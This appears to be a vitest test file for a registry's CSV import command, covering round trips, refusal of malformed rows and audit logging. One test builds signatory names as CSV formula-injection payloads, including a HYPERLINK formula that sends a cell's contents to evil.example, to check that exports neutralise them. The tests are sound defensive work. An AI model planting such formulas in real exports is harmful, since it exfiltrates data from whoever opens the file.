// db:import (CONTRACT §1): the command itself (npm run db:import runs it with tsx) and its
// module. A bad file is refused whole, naming each bad line; a good one adds, updates and
// leaves alone, in one audited transaction; export → import → export gives the same bytes.
import { toFlag } from "../../db/booleans";
import { spawn } from "node:child_process";
import { createHash, randomUUID } from "node:crypto";
import { readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { parse } from "csv-parse/sync";
import { stringify } from "csv-stringify/sync";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { verifyAuditChain } from "~/modules/audit/audit.server";
import { migrateToLatest, openDatabase, type DB } from "~/modules/database/db.server";
import { createSignatory } from "~/modules/directory/write.server";
import { csvCell, csvCellValue, exportCsvText } from "~/modules/opendata/csv.server";
import { importSignatories, readCsv } from "~/modules/opendata/import.server";
import pledgesJson from "../../db/seed/pledges.json";
import sectorsJson from "../../db/seed/sectors.json";
import { useSeededDatabase } from "../helpers/db";
import { addLaterSignatories } from "./opendata-fixtures";

const ROOT = fileURLToPath(new URL("../..", import.meta.url));
const getDb = useSeededDatabase();
const ALL = new URL("http://registry.test/signatories.csv?status=all");
// The header before CONTRACT §8 added five columns: db:import still takes it.
const LEGACY_HEADER = "slug,name,website,country,sector,joined_on,founding,status,pledges";
const PROVENANCE_HEADER = `${LEGACY_HEADER},country_name,sector_name,description,withdrawn_on,joined_precision`;
const HEADER = `${PROVENANCE_HEADER},security_contact_status`;
const PRINCIPLES = "stronger-defense;no-offense;capacity-building;collective-action";
const today = new Date().toISOString().slice(0, 10);
const cleanup: string[] = [];

beforeAll(async () => {
  await addLaterSignatories(getDb());
});
afterAll(() => {
  for (const path of cleanup) for (const suffix of ["", "-wal", "-shm"]) rmSync(path + suffix, { force: true });
});

function tempFile(name: string, content?: string | Buffer): string {
  const path = join(tmpdir(), `accord-import-${randomUUID()}-${name}`);
  if (content !== undefined) writeFileSync(path, content);
  cleanup.push(path);
  return path;
}

/** `npm run db:import -- FILE` as an operator runs it: tsx, the real entry point. */
function runImport(file: string, databaseUrl: string): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const env: NodeJS.ProcessEnv = { ...process.env, DATABASE_URL: databaseUrl, LOG_LEVEL: "warn" };
    for (const key of Object.keys(env)) if (key.startsWith("VITEST")) delete env[key];
    const child = spawn(join(ROOT, "node_modules/.bin/tsx"), ["app/cli/import.ts", file], { cwd: ROOT, env });
    let stdout = "";
    let stderr = "";
    child.stdout.setEncoding("utf8").on("data", (c: string) => (stdout += c));
    child.stderr.setEncoding("utf8").on("data", (c: string) => (stderr += c));
    child.once("error", reject);
    child.once("close", (code) => resolve({ code, stdout, stderr }));
  });
}

/** A migrated database with the accord's sectors and pledges but no signatory. */
async function referenceOnlyDatabase(): Promise<{ url: string; db: DB }> {
  const path = tempFile("empty.db");
  const db = openDatabase(path);
  await migrateToLatest(db);
  for (const [position, s] of sectorsJson.entries())
    await db
      .insertInto("sectors")
      .values({ ...s, position })
      .execute();
  for (const [position, p] of pledgesJson.entries()) {
    await db
      .insertInto("pledges")
      .values({ code: p.code, title: p.title, summary: p.summary, introduced_on: p.introduced_on, required: toFlag(p.required), position })
      .execute();
  }
  return { url: path, db };
}

const sha256 = (data: string | Buffer) => createHash("sha256").update(data).digest("hex");

/** The same file with the older header: its first nine columns, cells as written. */
function legacy(csv: string): string {
  const records = parse(csv, { relax_column_count: false }) as string[][];
  return stringify(
    records.map((r) => r.slice(0, 9)),
    { record_delimiter: "windows", quoted_match: /[\r\n]/ },
  );
}

async function snapshot(db: DB) {
  const count = async (table: "signatories" | "audit_log" | "signatory_events" | "endorsements") =>
    Number(
      (
        await db
          .selectFrom(table)
          .select((eb) => eb.fn.countAll<number>().as("n"))
          .executeTakeFirstOrThrow()
      ).n,
    );
  return {
    csv: await exportCsvText(db, ALL),
    signatories: await count("signatories"),
    audit: await count("audit_log"),
    events: await count("signatory_events"),
    endorsements: await count("endorsements"),
  };
}

describe("round trip", () => {
  it("export → db:import into an empty database → export gives the same bytes", async () => {
    const first = await exportCsvText(getDb(), ALL);
    expect(first.startsWith(`${HEADER}\r\n`)).toBe(true);
    expect(first.split("\r\n").length - 2).toBe(40);
    const file = tempFile("export.csv", first);
    const target = await referenceOnlyDatabase();
    try {
      const run = await runImport(file, target.url);
      expect(run.stderr).toBe("");
      expect(run.code).toBe(0);
      expect(run.stdout).toContain("added 40, updated 0, unchanged 0");

      const second = await exportCsvText(target.db, ALL);
      expect(sha256(second)).toBe(sha256(readFileSync(file)));
      expect(second).toBe(first);

      // Importing the same file again changes nothing.
      const again = await runImport(file, target.url);
      expect(again.code).toBe(0);
      expect(again.stdout).toContain("added 0, updated 0, unchanged 40");
      expect(await exportCsvText(target.db, ALL)).toBe(first);

      // The columns CONTRACT §8 added carry the withdrawal's date, the description and
      // the precision of the join date.
      const withdrawn = await target.db
        .selectFrom("signatories")
        .select(["status", "withdrawn_on", "founding"])
        .where("slug", "=", "withdrawn-widgets-ltd")
        .executeTakeFirstOrThrow();
      expect(withdrawn).toEqual({ status: "withdrawn", withdrawn_on: "2023-06-30", founding: 0 });
      const panda = await target.db
        .selectFrom("signatories")
        .select(["joined_on", "joined_precision", "description"])
        .where("slug", "=", "panda-security")
        .executeTakeFirstOrThrow();
      expect(panda).toMatchObject({
        joined_on: "2018-09-01",
        joined_precision: "month",
        description: expect.stringContaining("WatchGuard"),
      });
      expect(await verifyAuditChain(target.db)).toEqual({ ok: true, count: 2 });
    } finally {
      await target.db.destroy();
    }
  }, 60_000);

  it("with the older header too: its nine columns come back exactly, what it cannot carry filled in plainly", async () => {
    const old = legacy(await exportCsvText(getDb(), ALL));
    expect(old.startsWith(`${LEGACY_HEADER}\r\n`)).toBe(true);
    const file = tempFile("legacy.csv", old);
    const target = await referenceOnlyDatabase();
    try {
      const run = await runImport(file, target.url);
      expect(run.stderr).toBe("");
      expect(run.code).toBe(0);
      expect(run.stdout).toContain("added 40, updated 0, unchanged 0");
      const second = await exportCsvText(target.db, ALL);
      expect(second.startsWith(`${HEADER}\r\n`)).toBe(true);
      expect(legacy(second)).toBe(old);
      // Its own file again changes nothing.
      const again = await runImport(file, target.url);
      expect(again.stdout).toContain("added 0, updated 0, unchanged 40");
      // The older file has no withdrawal date, description or precision.
      const withdrawn = await target.db
        .selectFrom("signatories")
        .select(["withdrawn_on", "description", "joined_precision"])
        .where("slug", "=", "withdrawn-widgets-ltd")
        .executeTakeFirstOrThrow();
      expect(withdrawn).toEqual({ withdrawn_on: today, description: "", joined_precision: "day" });
    } finally {
      await target.db.destroy();
    }
  }, 60_000);
});

describe("round trip of names a spreadsheet would run as formulas (CONTRACT §8)", () => {
  /** Names as stored; the export writes each of the first eight with a leading '. */
  const HOSTILE = [
    '=HYPERLINK("http://evil.example/?l="&A1,"Open")',
    "=1+2",
    "-Minus Labs",
    "+Plus Partners",
    "@At Security",
    // Already starting with ' and a trigger: exported with one more ', read back without it.
    "'=Already Quoted",
    "'-Dash Quoted",
    "''@Twice Quoted",
    // Starting with ' alone: written and read as it is.
    "'Apostrophe Holdings",
    "O'Brien = Partners",
  ];

  it("export → db:import into an empty database → export gives the same bytes, and the names as they were", async () => {
    const source = await referenceOnlyDatabase();
    const target = await referenceOnlyDatabase();
    try {
      await source.db.transaction().execute(async (trx) => {
        for (const [i, name] of HOSTILE.entries()) {
          await createSignatory(
            trx,
            {
              name,
              website: `https://hostile-${i}.example`,
              country: "NL",
              sector: "other",
              description: "A formula-like name for the round trip.",
              joined_on: "2024-12-01",
              founding: false,
              pledges: PRINCIPLES.split(";").map((code) => ({ code, endorsed_on: "2024-12-01" })),
            },
            `hostile-${i}`,
          );
        }
      });
      const first = await exportCsvText(source.db, ALL);
      expect(first).toContain(`hostile-0,"'=HYPERLINK(""http://evil.example/?l=""&A1,""Open"")",`);
      expect(first).toContain("hostile-5,''=Already Quoted,");
      expect(first).toContain("hostile-7,'''@Twice Quoted,");
      expect(first).toContain("hostile-8,'Apostrophe Holdings,");

      const file = tempFile("hostile.csv", first);
      const run = await runImport(file, target.url);
      expect(run.stderr).toBe("");
      expect(run.code).toBe(0);
      expect(run.stdout).toContain(`added ${HOSTILE.length}, updated 0, unchanged 0`);
      const names = await target.db.selectFrom("signatories").select(["slug", "name"]).orderBy("slug").execute();
      expect(names).toEqual(HOSTILE.map((name, i) => ({ slug: `hostile-${i}`, name })));
      expect(await exportCsvText(target.db, ALL)).toBe(first);
      // Its own export changes nothing.
      const again = await importSignatories(target.db, {
        file: "hostile.csv",
        content: Buffer.from(first),
        actor: "cli:tester",
        actorLabel: "tester",
      });
      expect(again.ok && again.report).toMatchObject({ added: [], updated: [], unchanged: HOSTILE.length });
    } finally {
      await Promise.all([source.db.destroy(), target.db.destroy()]);
    }
  }, 60_000);

  it("reads every cell back as it was written: triggers, tabs, carriage returns and leading apostrophes", () => {
    const triggers = ["=", "+", "-", "@", "\t", "\r"];
    for (const t of triggers) {
      expect(csvCell(`${t}x`)).toBe(`'${t}x`);
      expect(csvCell(`'${t}x`)).toBe(`''${t}x`);
    }
    for (const plain of ["", "'", "''", "'x", "x=", "Acme", " =x"]) expect(csvCell(plain)).toBe(plain);
    fc.assert(
      fc.property(
        fc.tuple(fc.stringMatching(/^'{0,3}$/), fc.constantFrom("", ...triggers, "a", " "), fc.string()),
        ([quotes, first, rest]) => {
          const value = quotes + first + rest;
          expect(csvCellValue(csvCell(value))).toBe(value);
          expect(csvCell(value)).not.toMatch(/^[=+\-@\t\r]/);
        },
      ),
      { numRuns: 500 },
    );
  });
});

describe("a bad file", () => {
  it("is refused whole, naming each bad line as numbered in the file, and changes nothing", async () => {
    const lines = [
      LEGACY_HEADER, // 1
      `new-co,New Co,https://new.example,DE,security,2024-01-01,false,active,${PRINCIPLES}`, // 2: fine
      `multi-line-co,"Multi`, // 3: a name over two lines (refused: one line of text)
      `Line Co",https://multi.example,DE,security,2024-01-01,false,active,${PRINCIPLES}`, // 4
      `bad-country,Bad Country,https://bad-country.example,XX,security,2024-01-01,false,active,${PRINCIPLES}`, // 5
      "", // 6: blank, skipped
      `bad-date,Bad Date,https://bad-date.example,DE,security,2024-02-30,false,active,${PRINCIPLES};world-peace`, // 7
      "too-few,Too Few,https://too-few.example,DE", // 8
      `new-co,New Co Again,https://new-again.example,DE,security,2024-01-01,false,active,${PRINCIPLES}`, // 9
      `plain-http,Plain Http,http://plain.example,DE,security,2024-01-01,false,active,${PRINCIPLES}`, // 10
      `nokia,Nokia,https://www.nokia.com,FI,telecom,2018-04-17,false,active,${PRINCIPLES}`, // 11
      "no-principles,No Principles,https://np.example,DE,security,2024-01-01,false,active,paris-call", // 12
      `Bad_Slug,Bad Slug,https://bad-slug.example,DE,banking,2030-01-01,maybe,gone,${PRINCIPLES}`, // 13
    ];
    const file = tempFile("bad.csv", lines.join("\r\n") + "\r\n");
    const before = await snapshot(getDb());
    const run = await runImport(file, process.env.DATABASE_URL!);
    expect(run.code).toBe(1);
    expect(run.stdout).not.toMatch(/added \d+/);
    const reported = [...run.stderr.matchAll(/^ {2}line (\d+): (.*)$/gm)].map((m) => [Number(m[1]), m[2]] as const);
    expect(reported.map(([line]) => line)).toEqual([3, 5, 7, 8, 9, 10, 11, 12, 13]);
    const message = Object.fromEntries(reported);
    expect(message[3]).toContain("name must be one line");
    expect(message[5]).toContain("country 'XX'");
    expect(message[7]).toContain("joined_on must be a date");
    expect(message[7]).toContain("pledge 'world-peace'");
    expect(message[8]).toContain("expected 9 fields");
    expect(message[9]).toContain("already on line 2");
    expect(message[10]).toContain("https://");
    expect(message[11]).toContain("founding cannot change");
    expect(message[12]).toContain("missing stronger-defense");
    for (const part of [
      "slug must be",
      "sector 'banking'",
      "cannot be in the future",
      "founding must be true or false",
      "status must be one of",
    ]) {
      expect(message[13]).toContain(part);
    }
    expect(run.stderr).toContain("refused, nothing was changed (9 bad lines)");
    expect(await snapshot(getDb())).toEqual(before);
  }, 60_000);

  it("without the export's header is refused at line 1, naming every header it takes", async () => {
    const content = Buffer.from(`slug,name\r\nnew-co,New Co\r\n`);
    const result = await importSignatories(getDb(), { file: "x.csv", content, actor: "cli:tester", actorLabel: "tester" });
    expect(result).toEqual({ ok: false, errors: [{ line: 1, message: expect.stringContaining(HEADER) }] });
    expect(!result.ok && result.errors[0].message).toContain(`(or an older one: ${PROVENANCE_HEADER}, or ${LEGACY_HEADER})`);
  });

  it("checks the added columns: precision, the withdrawal date, the description", async () => {
    const row = (slug: string, joined: string, status: string, rest: string) =>
      `${slug},${slug},https://${slug}.example,DE,security,${joined},false,${status},${PRINCIPLES},Germany,Cybersecurity,${rest}`;
    const content = Buffer.from(
      [
        PROVENANCE_HEADER,
        row("month-ok", "2024-05-01", "active", "A description.,,month"), // 2: fine
        row("month-mid", "2024-05-17", "active", "x,,month"), // 3: not the first day of its month
        row("no-withdrawal-date", "2024-01-01", "withdrawn", "x,,day"), // 4
        row("stray-withdrawal-date", "2024-01-01", "active", "x,2024-06-01,day"), // 5
        row("bad-precision", "2024-01-01", "active", "x,,week"), // 6
        row("april-2018", "2018-04-01", "active", "x,,month"), // 7: fine (the launch was that month)
        row("march-2018", "2018-03-01", "active", "x,,month"), // 8: before the launch
        row("control", "2024-01-01", "active", '"Bell\u0007",,day'), // 9
      ].join("\r\n") + "\r\n",
    );
    const result = await importSignatories(getDb(), { file: "x.csv", content, actor: "cli:tester", actorLabel: "tester" });
    expect(result.ok).toBe(false);
    const errors = result.ok ? [] : result.errors;
    expect(errors.map((e) => e.line)).toEqual([3, 4, 5, 6, 8, 9]);
    expect(errors[0].message).toContain("first day of its month");
    expect(errors[1].message).toContain("withdrawn_on must be the date");
    expect(errors[2].message).toContain("withdrawn_on must be empty");
    expect(errors[3].message).toContain("joined_precision must be one of: day, month, year");
    expect(errors[4].message).toContain("before the accord's launch");
    expect(errors[5].message).toContain("description must be text");
  });

  it("that is not CSV at all (an unclosed quote) is refused with the parser's reason", async () => {
    const content = Buffer.from(`${LEGACY_HEADER}\r\n"broken,Broken\r\n`);
    const result = await importSignatories(getDb(), { file: "x.csv", content, actor: "cli:tester", actorLabel: "tester" });
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.errors[0].message).toMatch(/not valid CSV: .*quote/i);
  });
});

describe("a good file", () => {
  const run = (content: string) =>
    importSignatories(getDb(), {
      file: "changes.csv",
      content: Buffer.from(content),
      actor: "cli:tester",
      actorLabel: "tester (npm run db:import)",
    });

  it("adds new slugs, updates known ones, deletes nothing, and is idempotent (older header)", async () => {
    const db = getDb();
    const exported = legacy(await exportCsvText(db, ALL));
    // Its own export changes nothing.
    const same = await run(exported);
    expect(same.ok && same.report).toMatchObject({ added: [], updated: [], unchanged: 40 });

    const edited = exported
      .replace(/^nokia,Nokia,/m, "nokia,Nokia Oyj,")
      .replace(/^(f-secure,.*),active,/m, "$1,withdrawn,")
      .replace(/^(cisco,.*),(stronger-defense;no-offense;capacity-building;collective-action)\r$/m, "$1,$2;paris-call\r")
      // A row left out is not deleted.
      .replace(/^arm,.*\r\n/m, "")
      .concat(`zeta-newcomer,Zeta Newcomer,https://zeta.example,PT,software,2025-03-03,false,active,${PRINCIPLES};cyber-mercenaries\r\n`);
    const first = await run(edited);
    if (!first.ok) throw new Error(JSON.stringify(first.errors));
    expect(first.report.added).toEqual(["zeta-newcomer"]);
    expect(first.report.updated).toEqual(
      expect.arrayContaining([
        { slug: "nokia", fields: ["name"] },
        { slug: "f-secure", fields: ["status"] },
        { slug: "cisco", fields: ["pledges"] },
      ]),
    );
    expect(first.report.updated).toHaveLength(3);
    expect(first.report.unchanged).toBe(39 - 3);

    const second = await run(edited);
    expect(second.ok && second.report).toMatchObject({ added: [], updated: [], unchanged: 40 });

    const nokia = await db.selectFrom("signatories").select(["name", "former_names"]).where("slug", "=", "nokia").executeTakeFirstOrThrow();
    expect(nokia).toEqual({ name: "Nokia Oyj", former_names: "Nokia" });
    const arm = await db.selectFrom("signatories").select("status").where("slug", "=", "arm").executeTakeFirst();
    expect(arm).toEqual({ status: "active" });
    const withdrawal = await db
      .selectFrom("signatory_events")
      .innerJoin("signatories", "signatories.id", "signatory_events.signatory_id")
      .select(["signatory_events.kind", "signatory_events.occurred_on", "signatory_events.detail"])
      .where("signatories.slug", "=", "f-secure")
      .where("signatory_events.kind", "=", "withdrawn")
      .execute();
    expect(withdrawal).toEqual([{ kind: "withdrawn", occurred_on: today, detail: "Imported from changes.csv" }]);
    const endorsement = await db
      .selectFrom("endorsements")
      .innerJoin("signatories", "signatories.id", "endorsements.signatory_id")
      .select("endorsements.endorsed_on")
      .where("signatories.slug", "=", "cisco")
      .where("endorsements.pledge_code", "=", "paris-call")
      .executeTakeFirstOrThrow();
    expect(endorsement.endorsed_on).toBe(today);
    // A pledge introduced after the join date counts from its introduction.
    const zeta = await db
      .selectFrom("endorsements")
      .innerJoin("signatories", "signatories.id", "endorsements.signatory_id")
      .select(["endorsements.pledge_code", "endorsements.endorsed_on"])
      .where("signatories.slug", "=", "zeta-newcomer")
      .execute();
    expect(zeta).toHaveLength(5);
    expect(zeta.every((e) => e.endorsed_on === "2025-03-03")).toBe(true);
  });

  it("takes the description, the withdrawal date and the precision from the newer header", async () => {
    const db = getDb();
    const records = parse(await exportCsvText(db, ALL), { relax_column_count: false }) as string[][];
    const [header] = records;
    const col = (name: string) => header.indexOf(name);
    const edit = (slug: string, changes: Record<string, string>) => {
      const record = records.find((r) => r[0] === slug)!;
      for (const [name, value] of Object.entries(changes)) record[col(name)] = value;
    };
    edit("bt", { description: "British telecommunications operator; a corrected description." });
    edit("dell", { joined_on: "2018-04-01", joined_precision: "month" });
    edit("withdrawn-widgets-ltd", { withdrawn_on: "2023-07-01" });
    const content = stringify(records, { record_delimiter: "windows", quoted_match: /[\r\n]/ });
    const result = await run(content);
    if (!result.ok) throw new Error(JSON.stringify(result.errors));
    expect(result.report.updated).toEqual(
      expect.arrayContaining([
        { slug: "bt", fields: ["description"] },
        { slug: "dell", fields: ["joined_on", "joined_precision"] },
        { slug: "withdrawn-widgets-ltd", fields: ["withdrawn_on"] },
      ]),
    );
    const rows = await db
      .selectFrom("signatories")
      .select(["slug", "description", "joined_on", "joined_precision", "withdrawn_on"])
      .where("slug", "in", ["bt", "dell", "withdrawn-widgets-ltd"])
      .orderBy("slug")
      .execute();
    expect(rows).toEqual([
      expect.objectContaining({ slug: "bt", description: "British telecommunications operator; a corrected description." }),
      expect.objectContaining({ slug: "dell", joined_on: "2018-04-01", joined_precision: "month" }),
      expect.objectContaining({ slug: "withdrawn-widgets-ltd", withdrawn_on: "2023-07-01" }),
    ]);
    // And its own export of that is unchanged by importing it again.
    const again = await run(await exportCsvText(db, ALL));
    expect(again.ok && again.report.updated).toEqual([]);
  });

  it("records each import in the audit log, with who, the counts and the changes", async () => {
    const entries = await getDb().selectFrom("audit_log").selectAll().where("action", "=", "signatory.import").orderBy("id").execute();
    expect(entries.length).toBeGreaterThanOrEqual(3);
    const changed = entries.find((e) => JSON.parse(e.after_json!).added === 1)!;
    expect(changed).toMatchObject({
      actor: "cli:tester",
      actor_label: "tester (npm run db:import)",
      target_type: "signatory",
      target_id: "changes.csv",
    });
    const after = JSON.parse(changed.after_json!);
    expect(after).toMatchObject({ rows: 40, added: 1, updated: 3, unchanged: 36, added_slugs: ["zeta-newcomer"] });
    expect(after.sha256).toMatch(/^[0-9a-f]{64}$/);
    expect(after.signatories.nokia).toMatchObject({ name: "Nokia Oyj" });
    expect(JSON.parse(changed.before_json!).signatories.nokia).toMatchObject({ name: "Nokia" });
    expect((await verifyAuditChain(getDb())).ok).toBe(true);
  });

  it("names the operator as cli:<user> when run from the command line", async () => {
    const file = tempFile("same.csv", await exportCsvText(getDb(), ALL));
    const result = await runImport(file, process.env.DATABASE_URL!);
    expect(result.code).toBe(0);
    const last = await getDb().selectFrom("audit_log").select(["actor", "action"]).orderBy("id", "desc").executeTakeFirstOrThrow();
    expect(last.action).toBe("signatory.import");
    expect(last.actor).toMatch(/^cli:.+/);
  }, 60_000);
});

describe("reading the file", () => {
  it("numbers records by the line they start on: CRLF or LF, quoted line breaks, blank lines, a byte order mark", () => {
    const text = '\uFEFFa,b\r\n"x\r\ny",2\r\n\r\n3,4\r\n"5\n6\n7",8\r\n9,10';
    const result = readCsv(Buffer.from(text));
    expect(result.ok && result.records).toEqual([
      { line: 1, fields: ["a", "b"] },
      { line: 2, fields: ["x\r\ny", "2"] },
      { line: 5, fields: ["3", "4"] },
      { line: 6, fields: ["5\n6\n7", "8"] },
      { line: 9, fields: ["9", "10"] },
    ]);
    const lf = readCsv(Buffer.from("a,b\n\n\n1,2\n3,4\n"));
    expect(lf.ok && lf.records.map((r) => r.line)).toEqual([1, 4, 5]);
  });
});
